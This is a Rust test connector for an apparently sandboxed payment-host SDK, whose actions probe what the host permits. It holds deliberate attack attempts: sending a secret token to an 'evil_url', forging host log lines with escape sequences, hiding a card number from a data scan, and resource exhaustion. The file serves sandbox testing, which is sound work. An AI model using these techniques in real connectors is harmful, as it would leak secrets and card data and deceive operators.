//! A test connector: each payment's `action` attribute picks what it does,
//! from an honest HTTP round trip to an infinite loop. The integration tests
//! drive it to prove what the host allows and refuses.
//!
//! Whatever crypto computes from a secret comes back sealed: the probe
//! reports `sealed` for it and, when the payment has a `url` attribute,
//! sends the sealed values there (headers, query, JSON body) so that the
//! test can check them where the host wrote them.

use payhost_sdk::crypto::Output;
use payhost_sdk::http::{HttpError, Method, Request};
use payhost_sdk::json::Json;
use payhost_sdk::xml::Element;
use payhost_sdk::{
    Connector, ConnectorError, ConnectorInfo, Encoding, ErrorKind, MethodKind, Parts,
    PaymentOutcome, PaymentRequest, Placement, Sealed, clock, config, crypto, json, log,
    register_connector,
};

struct Probe;

fn http_error(e: &HttpError) -> (&'static str, String) {
    (e.kind(), e.message().to_owned())
}

fn report(result: Result<payhost_sdk::http::Response, HttpError>) -> PaymentOutcome {
    match result {
        Ok(r) => PaymentOutcome::succeeded()
            .detail("status", r.status.to_string())
            .detail("location", r.header("location").unwrap_or_default())
            .detail("body", String::from_utf8_lossy(&r.body)),
        Err(e) => {
            let (kind, message) = http_error(&e);
            PaymentOutcome::failed(ConnectorError::new(ErrorKind::Denied, message))
                .detail("http-error", kind)
        }
    }
}

/// `sealed`, the bytes in hex, or `denied: …` / `invalid: …`.
fn crypto_text(r: &Result<Output, crypto::CryptoError>) -> String {
    match r {
        Ok(Output::Bytes(bytes)) => crypto::hex(bytes),
        Ok(Output::Sealed(_)) => "sealed".to_owned(),
        Err(crypto::CryptoError::Denied(m)) => format!("denied: {m}"),
        Err(crypto::CryptoError::Invalid(m)) => format!("invalid: {m}"),
    }
}

/// The sealed value of a crypto result, if it is one.
fn sealed(r: &Result<Output, crypto::CryptoError>) -> Option<&Sealed> {
    match r {
        Ok(Output::Sealed(s)) => Some(s),
        _ => None,
    }
}

/// `status N`, or the HTTP error's kind.
fn sent(r: Result<payhost_sdk::http::Response, HttpError>) -> String {
    match r {
        Ok(r) => format!("status {}", r.status),
        Err(e) => e.kind().to_owned(),
    }
}

fn vectors(request: &PaymentRequest) -> PaymentOutcome {
    let text = |s: &str| Parts::new().text(s);
    let secret = |n: &str| Parts::new().secret(n, Encoding::Raw);
    let aes = crypto::aes256_cbc_encrypt(
        &secret("aes_key"),
        &[0; 16],
        &text("ctPJAIdxUA3ptaWC&1500375695.65"),
    );
    let roundtrip = crypto::aes256_cbc_encrypt(
        &text("0123456789abcdef0123456789abcdef"),
        &[7; 16],
        &text("round trip"),
    )
    .and_then(|c| match c {
        Output::Bytes(c) => crypto::aes256_cbc_decrypt(
            &text("0123456789abcdef0123456789abcdef"),
            &[7; 16],
            &Parts::new().bytes(c),
        ),
        sealed => Ok(sealed),
    })
    .map(|p| match p {
        Output::Bytes(p) => String::from_utf8_lossy(&p).into_owned(),
        Output::Sealed(_) => "sealed".to_owned(),
    })
    .unwrap_or_else(|e| e.message().to_owned());
    let md5_nemo = crypto::md5(&text("263330").append(secret("nemo_key")));
    let hmac_secret = crypto::hmac_sha256(&secret("hmac_key"), &text("data"));
    // A hash of a sealed value (the Nemo MD5 written as hex) is sealed too.
    let md5_of_sealed = match sealed(&md5_nemo) {
        Some(s) => crypto::md5(&Parts::new().sealed(s, Encoding::Hex)),
        None => Err(crypto::CryptoError::Invalid(
            "md5-nemo is not sealed".into(),
        )),
    };
    let mut outcome = PaymentOutcome::succeeded()
        .detail("md5-abc", crypto_text(&crypto::md5(&text("abc"))))
        .detail("md5-nemo", crypto_text(&md5_nemo))
        .detail("md5-of-sealed", crypto_text(&md5_of_sealed))
        .detail("sha256-abc", crypto_text(&crypto::sha256(&text("abc"))))
        .detail(
            "hmac-jefe",
            crypto_text(&crypto::hmac_sha256(
                &text("Jefe"),
                &text("what do ya want for nothing?"),
            )),
        )
        .detail("hmac-secret-key", crypto_text(&hmac_secret))
        .detail("aes-aerohub", crypto_text(&aes))
        .detail("aes-roundtrip", roundtrip)
        .detail("base64", crypto::base64_encode(b"payhost"))
        .detail(
            "base64-back",
            String::from_utf8_lossy(&crypto::base64_decode("cGF5aG9zdA==").unwrap_or_default()),
        )
        .detail(
            "aes-short-key",
            crypto_text(&crypto::aes256_cbc_encrypt(
                &text("short"),
                &[0; 16],
                &text("x"),
            )),
        )
        .detail(
            "unknown-secret",
            crypto_text(&crypto::md5(&secret("not_granted"))),
        );
    // The sealed results, written by the host where the test can read them.
    if let Some(url) = request.attribute("url") {
        let mut out = Request::post(url);
        let mut body = Json::object();
        for (name, result, encoding) in [
            ("md5-nemo", &md5_nemo, Encoding::Hex),
            ("md5-of-sealed", &md5_of_sealed, Encoding::Hex),
            ("hmac-secret-key", &hmac_secret, Encoding::Hex),
            ("aes-aerohub", &aes, Encoding::Base64),
        ] {
            if let Some(value) = sealed(result) {
                out = out.header(format!("x-{name}"), Parts::new().sealed(value, encoding));
                body.insert(name, Json::sealed_string(value, encoding));
            }
        }
        if let Some(value) = sealed(&md5_nemo) {
            out = out.query_sealed("md5-nemo", value, Encoding::Hex);
        }
        outcome = outcome.detail("sealed-sent", sent(out.json(body).send()));
    }
    outcome
}

/// Every way a connector might try to get a secret's value out.
fn exfiltrate(request: &PaymentRequest) -> PaymentOutcome {
    let token = || Parts::new().secret("token", Encoding::Raw);
    let own_key = Parts::new().text("0123456789abcdef0123456789abcdef");
    let mut outcome = PaymentOutcome::succeeded();
    // 1. Encrypt it under a key we know, to decrypt it ourselves: sealed.
    let encrypted = crypto::aes256_cbc_encrypt(&own_key, &[0; 16], &token());
    outcome = outcome.detail("encrypt-under-own-key", crypto_text(&encrypted));
    // 2. Decrypt that ciphertext under our own key: the plaintext must stay
    //    sealed (bytes here would be the secret itself).
    if let Some(ciphertext) = sealed(&encrypted) {
        let decrypted = crypto::aes256_cbc_decrypt(
            &own_key,
            &[0; 16],
            &Parts::new().sealed(ciphertext, Encoding::Raw),
        );
        outcome = outcome.detail("decrypt-own-ciphertext", crypto_text(&decrypted));
    }
    // 3. Decrypt something with it as the key: sealed.
    let decrypted = crypto::aes256_cbc_decrypt(&token(), &[0; 16], &Parts::new().bytes([0; 16]));
    outcome = outcome.detail(
        "decrypt-with-secret-key",
        crypto_text(&decrypted).chars().take(7).collect::<String>(),
    );
    // 4. Send it, and what was sealed from it, to a host that is not allowed.
    if let Some(url) = request.attribute("evil_url") {
        let mut evil = Request::post(url)
            .query_secret("token", "token", Encoding::UrlComponent)
            .header("x-stolen", token())
            .body(token());
        if let Some(ciphertext) = sealed(&encrypted) {
            evil = evil.header(
                "x-sealed",
                Parts::new().sealed(ciphertext, Encoding::Base64),
            );
        }
        let sent = evil.send();
        outcome = outcome.detail(
            "send-to-evil",
            sent.err().map(|e| http_error(&e).0).unwrap_or("sent"),
        );
    }
    // 5. Log it, print it, return it: the connector only holds the name and
    //    a sealed handle.
    log::event(
        log::Level::Warn,
        "trying to log the secret",
        &[("token", "token")],
    );
    let held = sealed(&encrypted)
        .map(|s| format!("{s:?}"))
        .unwrap_or_default();
    println!("printing the secret: {:?} {held}", token());
    outcome.detail("returned", format!("{:?} {held}", token()))
}

/// Where a secret or a sealed value may stand in a URL: each attempt goes
/// to `url` (an allowed origin) and reports `status N` or the error kind.
fn url_parts(url: &str) -> PaymentOutcome {
    let sig = crypto::md5(
        &Parts::new()
            .text("263330")
            .secret("nemo_key", Encoding::Raw),
    );
    let Some(sig) = sealed(&sig) else {
        return PaymentOutcome::failed(ConnectorError::new(
            ErrorKind::InvalidRequest,
            format!("md5 over a secret: {}", crypto_text(&sig)),
        ));
    };
    let mut outcome = PaymentOutcome::succeeded();
    // Allowed: in the query, with a URL-safe encoding.
    outcome = outcome.detail(
        "sealed-in-query",
        sent(
            Request::get(url)
                .query_sealed("sig", sig, Encoding::Hex)
                .send(),
        ),
    );
    outcome = outcome.detail(
        "secret-in-query",
        sent(
            Request::get(url)
                .query_secret("token", "token", Encoding::UrlComponent)
                .send(),
        ),
    );
    // Refused: before the `?`, or an encoding that is not URL-safe.
    let in_path = |part: Parts| {
        sent(
            Request::new(
                Method::Get,
                Parts::new()
                    .text(format!("{}/", url.trim_end_matches('/')))
                    .append(part),
            )
            .send(),
        )
    };
    outcome = outcome.detail(
        "secret-in-path",
        in_path(Parts::new().secret("token", Encoding::UrlComponent)),
    );
    outcome = outcome.detail(
        "sealed-in-path",
        in_path(Parts::new().sealed(sig, Encoding::Hex)),
    );
    outcome = outcome.detail(
        "secret-raw-in-query",
        sent(
            Request::get(url)
                .query_secret("token", "token", Encoding::Raw)
                .send(),
        ),
    );
    outcome = outcome.detail(
        "sealed-raw-in-query",
        sent(
            Request::get(url)
                .query_sealed("sig", sig, Encoding::Raw)
                .send(),
        ),
    );
    // A signature in a header needs a header-safe encoding too.
    outcome = outcome.detail(
        "sealed-raw-in-header",
        sent(
            Request::get(url)
                .header("x-sig", Parts::new().sealed(sig, Encoding::Raw))
                .send(),
        ),
    );
    outcome.detail(
        "sealed-hex-in-header",
        sent(
            Request::get(url)
                .header("x-sig", Parts::new().sealed(sig, Encoding::Hex))
                .send(),
        ),
    )
}

/// A status supplier's answer: `{"status": "paid" | "pending" | "declined"
/// | "processing", "code": "…", "message": "…"}`; a 5xx, an unreadable body
/// or no answer at all is `unknown` (the request may have gone through).
fn status(result: Result<payhost_sdk::http::Response, HttpError>) -> PaymentOutcome {
    let response = match result {
        Ok(r) => r,
        Err(e) => {
            return PaymentOutcome::unknown(ConnectorError::new(
                ErrorKind::Timeout,
                e.message().to_owned(),
            ));
        }
    };
    if response.status >= 500 {
        return PaymentOutcome::unknown(ConnectorError::new(
            ErrorKind::SupplierUnavailable,
            format!("the supplier answered HTTP {}", response.status),
        ));
    }
    let Ok(answer) = response.json::<serde_json::Value>() else {
        return response.unreadable("not the status JSON");
    };
    let text = |k: &str| answer.get(k).and_then(|v| v.as_str()).map(str::to_owned);
    let code = text("code").unwrap_or_default();
    let message = text("message");
    match text("status").as_deref() {
        Some("paid") => PaymentOutcome::succeeded()
            .supplier(code, message)
            .reference(text("reference").unwrap_or_default()),
        Some("pending") => PaymentOutcome::pending().supplier(code, message),
        Some("declined") => PaymentOutcome::failed(ConnectorError::supplier(
            ErrorKind::Declined,
            code,
            message.unwrap_or_default(),
        )),
        _ => PaymentOutcome::unknown(ConnectorError::supplier(
            ErrorKind::InProgress,
            code,
            message.unwrap_or_else(|| "still processing".to_owned()),
        )),
    }
}

impl Connector for Probe {
    fn info() -> ConnectorInfo {
        ConnectorInfo::new("probe", env!("CARGO_PKG_VERSION"), "Probe test supplier")
            .methods([MethodKind::Balance, MethodKind::Card])
            .secrets(["token", "aes_key", "nemo_key", "hmac_key"])
            .config_keys(["base_url", "greeting"])
            .hosts(["config:base_url", "https://probe.example.com"])
            // One declared place; the tests run it unpinned, or pinned there.
            .placements([Placement::new(
                "secret:token",
                "POST /pay",
                "header:x-token",
                "raw",
            )])
    }

    /// `GET {base}/status?order=ID`; an empty order id is refused before
    /// anything is sent.
    fn query(order_id: String) -> Result<PaymentOutcome, ConnectorError> {
        if order_id.is_empty() {
            return Err(ConnectorError::new(
                ErrorKind::InvalidRequest,
                "an order id is needed",
            ));
        }
        let base = config::get("base_url").unwrap_or_default();
        let order: String = order_id
            .chars()
            .filter(|c| c.is_ascii_alphanumeric() || *c == '-')
            .collect();
        Ok(status(
            Request::get(format!("{base}/status?order={order}")).send(),
        ))
    }

    fn pay(request: PaymentRequest) -> PaymentOutcome {
        let base = config::get("base_url").unwrap_or_default();
        let url = request
            .attribute("url")
            .map(str::to_owned)
            .unwrap_or_else(|| format!("{base}/echo"));
        match request.attribute("action").unwrap_or("roundtrip") {
            "roundtrip" => {
                let body = Json::from(serde_json::json!({
                    "order": request.order_id,
                    "amount": json::decimal(&request.amount.amount).ok(),
                }))
                .set("token", Json::secret("token"));
                report(
                    Request::post(&url)
                        .header("x-plain", "hello")
                        .header(
                            "x-token",
                            Parts::new().text("Bearer ").secret("token", Encoding::Raw),
                        )
                        .json(body)
                        .send(),
                )
            }
            "xml" => {
                let body = Element::new("soapenv:Envelope")
                    .attr("xmlns:soapenv", "http://schemas.xmlsoap.org/soap/envelope/")
                    .child(Element::new("APIKey").secret_text("token"))
                    .child(Element::new("Note").text("a < b & c"))
                    .to_document();
                report(
                    Request::post(&url)
                        .header("content-type", "text/xml; charset=utf-8")
                        .body(body)
                        .send(),
                )
            }
            "fetch" => report(Request::get(&url).send()),
            // A supplier with a status call: `POST {base}/status-pay`,
            // answered as `query` reads `GET {base}/status`.
            "status" => status(
                Request::post(format!("{base}/status-pay"))
                    .header("x-time", clock::unix_seconds().to_string())
                    .json(Json::from(serde_json::json!({ "order": request.order_id })))
                    .send(),
            ),
            "follow" => match Request::get(&url).send() {
                Ok(r) if (300..400).contains(&r.status) => {
                    let location = r.header("location").unwrap_or_default().to_owned();
                    report(Request::get(location).send())
                        .detail("first-status", r.status.to_string())
                }
                other => report(other),
            },
            // `count` requests one after another, `gap_ms` apart.
            "burst" => {
                let n: u32 = request
                    .attribute("count")
                    .and_then(|c| c.parse().ok())
                    .unwrap_or(20);
                let gap: u64 = request
                    .attribute("gap_ms")
                    .and_then(|g| g.parse().ok())
                    .unwrap_or(0);
                let mut outcome = PaymentOutcome::succeeded();
                for i in 0..n {
                    if i > 0 && gap > 0 {
                        std::thread::sleep(std::time::Duration::from_millis(gap));
                    }
                    let r = Request::get(&url).send();
                    outcome = outcome.detail(
                        format!("request-{i}"),
                        r.err().map(|e| http_error(&e).0).unwrap_or("ok"),
                    );
                }
                outcome
            }
            "fetch-then-trap" => {
                let _ = Request::get(&url).send();
                panic!("trapping after a request left");
            }
            "crypto" => vectors(&request),
            "exfiltrate" => exfiltrate(&request),
            "url-parts" => url_parts(&url),
            "config" => config::all()
                .into_iter()
                .fold(PaymentOutcome::succeeded(), |o, (k, v)| o.detail(k, v)),
            "clock" => PaymentOutcome::succeeded().detail("now", clock::unix_seconds().to_string()),
            // An honest call that leans on the host: `rounds` SHA-256 of a
            // MiB each, worked by the host, and little code of its own.
            "work" => {
                let rounds: u32 = request
                    .attribute("rounds")
                    .and_then(|r| r.parse().ok())
                    .unwrap_or(8);
                let data = Parts::new().bytes(vec![0x5a; 1 << 20]);
                let mut last = String::new();
                for _ in 0..rounds {
                    last = crypto_text(&crypto::sha256(&data));
                }
                PaymentOutcome::succeeded().detail("sha256", last)
            }
            "nap" => {
                // Sleeps through WASI (`poll` on a monotonic-clock
                // pollable) `times` times, then spins `spin_ms` of its own.
                let number = |key: &str, default: u64| {
                    request
                        .attribute(key)
                        .and_then(|v| v.parse().ok())
                        .unwrap_or(default)
                };
                for _ in 0..number("times", 4) {
                    std::thread::sleep(std::time::Duration::from_millis(number("ms", 20)));
                }
                let until = std::time::Instant::now()
                    + std::time::Duration::from_millis(number("spin_ms", 10));
                let mut spins = 0u64;
                while std::time::Instant::now() < until {
                    spins = std::hint::black_box(spins + 1);
                }
                PaymentOutcome::succeeded().detail("spins", spins.to_string())
            }
            "loop" => loop {
                std::hint::black_box(0);
            },
            "recurse" => {
                fn down(n: u64) -> u64 {
                    if n == u64::MAX {
                        0
                    } else {
                        std::hint::black_box(down(n + 1)) + 1
                    }
                }
                PaymentOutcome::succeeded().detail("depth", down(0).to_string())
            }
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "trap" => panic!("the probe was told to trap"),
            "card-echo" => {
                // The number and the CVV are sealed: what the probe can log,
                // print and return is `Sealed(..)` and the clear fields.
                let card = match &request.method {
                    payhost_sdk::PaymentMethod::Card(c)
                    | payhost_sdk::PaymentMethod::MerchantOfRecord(c) => Some(c),
                    _ => None,
                };
                let number = card.map(|c| format!("{:?}", c.number)).unwrap_or_default();
                let cvv = card.map(|c| format!("{:?}", c.cvv)).unwrap_or_default();
                let last_four = card.map(|c| c.last_four.as_str()).unwrap_or_default();
                log::info(&format!("paying with card {number} cvv {cvv}"));
                println!("stdout card {number} cvv {cvv}");
                let mut outcome = PaymentOutcome::succeeded()
                    .reference(format!("ref-{last_four}"))
                    .detail("card", number);
                if let Some(c) = card {
                    outcome = outcome
                        .detail("brand", format!("{:?}", c.brand))
                        .detail("last-four", c.last_four.as_str());
                    // Sent where the payment says, the host writes them.
                    if let Some(to) = request.attribute("url") {
                        let body = Json::object()
                            .set("number", Json::sealed(&c.number))
                            .set("cvv", c.cvv.as_ref().map(Json::sealed));
                        let mut out = Request::post(to).header(
                            "x-card-number",
                            Parts::new().sealed(&c.number, Encoding::Raw),
                        );
                        if let Some(cvv) = &c.cvv {
                            out = out.header("x-card-cvv", Parts::new().sealed(cvv, Encoding::Raw));
                        }
                        outcome = outcome.detail("card-sent", sent(out.json(body).send()));
                    }
                }
                outcome
            }
            "charge-card" => {
                // A card number where the charged amount goes: a plain
                // decimal. Written reversed, so the component itself holds
                // no card number for the card-data scan to find.
                let number: String = "6630382115102354".chars().rev().collect();
                PaymentOutcome::succeeded().charged(payhost_sdk::Money::new(number, "USD"))
            }
            "big-code" => {
                // Only in the error's supplier code, not in the outcome's.
                let mut outcome = PaymentOutcome::failed(ConnectorError::supplier(
                    ErrorKind::Declined,
                    "9".repeat(8 << 20),
                    "declined",
                ));
                outcome.supplier_code = None;
                outcome.supplier_message = None;
                outcome
            }
            "log-fat" => {
                // 200 lines of about 10 KiB each: within the line limit.
                let text = "x".repeat(1024);
                let fields: Vec<(String, String)> = (0..4)
                    .map(|i| (format!("{i}{text}"), text.clone()))
                    .collect();
                let fields: Vec<(&str, &str)> = fields
                    .iter()
                    .map(|(k, v)| (k.as_str(), v.as_str()))
                    .collect();
                for i in 0..200 {
                    log::event(
                        log::Level::Warn,
                        &format!("fat {i} {}", "y".repeat(2000)),
                        &fields,
                    );
                }
                PaymentOutcome::succeeded()
            }
            "fetch-many" => {
                let url = request.attribute("url").unwrap_or_default().to_owned();
                let kinds: Vec<String> = (0..12)
                    .map(|_| sent(Request::get(url.as_str()).send()))
                    .collect();
                PaymentOutcome::succeeded().detail("kinds", kinds.join(","))
            }
            "odd-reference" => PaymentOutcome::succeeded()
                .reference(format!("ref\u{1b}[31m\n{}", "r".repeat(1000)))
                .supplier(format!("C\u{202e}{}", "c".repeat(1000)), None),
            "inject" => {
                // Text that would forge a host log line and CLI rows.
                log::event(
                    log::Level::Error,
                    "honest line\n2099-01-01T00:00:00.000000Z ERROR payhost: forged host line",
                    &[("k\nforged", "v\u{1b}[31m")],
                );
                println!("stdout \u{1b}[31mred\u{1b}[0m");
                PaymentOutcome::failed(ConnectorError::new(
                    ErrorKind::Declined,
                    "declined\u{1b}[2K\rstate              succeeded",
                ))
                .detail("state", "succeeded")
                .detail(
                    "x",
                    "\u{1b}[1A\u{1b}[2Kstate              succeeded\u{202e}",
                )
            }
            "lie" => {
                // Past the SDK's check, straight into the record.
                let mut outcome = PaymentOutcome::succeeded();
                outcome.charged = Some(payhost_sdk::Money::new("12,5", "usd"));
                outcome
            }
            other => PaymentOutcome::failed(ConnectorError::new(
                ErrorKind::InvalidRequest,
                format!("unknown action {other}"),
            )),
        }
    }
}

register_connector!(Probe);
